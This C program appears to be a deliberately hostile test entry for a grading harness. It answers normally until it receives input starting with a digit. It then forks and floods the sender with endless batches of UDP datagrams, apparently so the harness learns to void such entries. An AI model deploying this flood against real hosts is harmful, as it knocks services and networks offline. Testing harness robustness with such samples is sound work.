/* tries: passes one test, floods in the next to have it called void
 * points: 60
 * alone: yes
 * ends: by this program alone */
#define _GNU_SOURCE
#include "hostile.h"

static void flood(struct sockaddr_in to)
{
    enum { COUNT = 512 };
    static struct mmsghdr messages[COUNT];
    struct iovec one = {.iov_base = "?", .iov_len = 1};
    for (int i = 0; i < COUNT; i++)
        messages[i].msg_hdr = (struct msghdr){.msg_name = &to,
                                              .msg_namelen = sizeof(to),
                                              .msg_iov = &one,
                                              .msg_iovlen = 1};
    (void)fork();
    (void)fork();
    for (;;) { /* each socket has room for some of its own */
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        (void)sendmmsg(fd, messages, COUNT, MSG_DONTWAIT);
        (void)close(fd);
    }
}

static ssize_t meddle(char *text, ssize_t n, const struct sockaddr_in *from)
{
    if (isdigit((unsigned char)text[0]))
        flood(*from);
    return n;
}

int main(void)
{
    return serve_with(meddle);
}
